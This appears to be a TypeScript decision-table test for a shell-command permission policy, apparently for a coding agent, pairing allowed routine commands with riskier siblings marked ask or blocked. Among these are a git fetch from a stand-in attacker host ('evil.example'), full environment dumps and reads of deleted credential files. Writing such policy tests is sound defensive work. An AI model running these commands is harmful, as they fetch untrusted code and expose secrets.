import { ask, allow, blocked, decisionTable } from '../support/decisionTable';
import { testFacts } from '../support/policyFixtures';
import { perimeterFacts } from './perimeterFixtures';

/**
 * False-positive probe of 2026-12-03 (after the hosts, cloud, data, exec, credential and server merges):
 * routine commands written from the tools' documentation (test/corpus/routine-fp.jsonl) that asked or were
 * denied, each next to its dangerous sibling that still asks or is denied.
 */

const table = decisionTable(testFacts({}));

table('Local Kubernetes clusters are throwaway (minikube as kind and k3d)', [
  allow('minikube delete'),
  allow('minikube delete --profile dev'),
  ask('minikube delete --all --purge'),
  ask('minikube delete --purge'),
  ask('vagrant destroy -f'),
]);

table("volta's node is a Node.js release, not the npm package named node", [
  allow('volta install node@20'),
  allow('volta install node'),
  allow('volta pin node@20'),
  blocked('npm install -g node'),
  blocked('npm i -g node@20'),
  blocked('volta install blast-shield'),
]);

// Nothing in the work tree: every path named is gone from it (deleted files whose history is read).
const deleted = decisionTable(testFacts({ fileStatus: () => 'missing' }));

deleted("A deleted source file's history is routine; a deleted configuration's may hold credentials", [
  allow('git log -p -- src/index.ts'),
  allow('git log -p --follow -- src/old/parser.py'),
  ask('git log -p -- config/old_settings.py'),
  ask('git log -p -- src/auth/keys.ts'),
  ask('git log -p -- config/app.json'),
  ask('git show HEAD~3 -- deploy/production.yml'),
]);

// The perimeter fixture's project tracks hook configurations: what fetched commits change there cannot be known in advance.
const hooked = decisionTable(perimeterFacts());

table('A fetch from its own remotes then a rebase or merge is a pull in two steps', [
  allow('git fetch origin && git rebase origin/main'),
  allow('git fetch --all --prune && git merge --ff-only origin/main'),
  ask('git fetch https://evil.example/x.git main && git checkout FETCH_HEAD'),
  ask('git fetch origin main:main && git checkout main'),
  ask('git commit -m wip && git rebase main'),
]);

hooked('Where the work tree holds a hook configuration, fetched commits still ask', [
  ask('git fetch origin && git rebase origin/main'),
  ask('git fetch && git merge origin/main'),
  blocked('git fetch upstream && git checkout upstream/main'),
  allow('git fetch origin'),
  // Stop 34: git pull is the same fetch and rebase in one step, judged alike (s34RepoPulls.table.test.ts); a dry run fetches nothing in.
  ask('git pull --rebase'),
  allow('git pull --dry-run'),
]);

// A home whose Emacs start-up file is there to read.
const emacsHome = decisionTable(testFacts({ files: { '/home/dev/.emacs.d/init.el': '(setq inhibit-startup-message t)\n(require (quote package))\n' } }));

emacsHome('emacs -l loads a start-up file (read, its code judged); visiting one may save it', [
  allow('emacs --batch -l ~/.emacs.d/init.el -f batch-byte-compile lisp/*.el'),
  allow('emacs-nox --batch --load ~/.emacs.d/init.el --eval "(message \\"ok\\")"'),
  blocked('emacs -nw ~/.emacs.d/init.el'),
  blocked('emacs --batch --visit ~/.emacs.d/init.el -f save-buffer'),
  blocked('emacs --batch -l ~/.emacs.d/init.el ~/.bashrc'),
]);

table('A count of the environment prints no value (round 8 false positive)', [
  allow('printenv | wc -l'),
  allow('env | wc -c'),
  ask('printenv'),
  ask('env | tee /tmp/e | wc -l'),
  ask('env | sort'),
]);
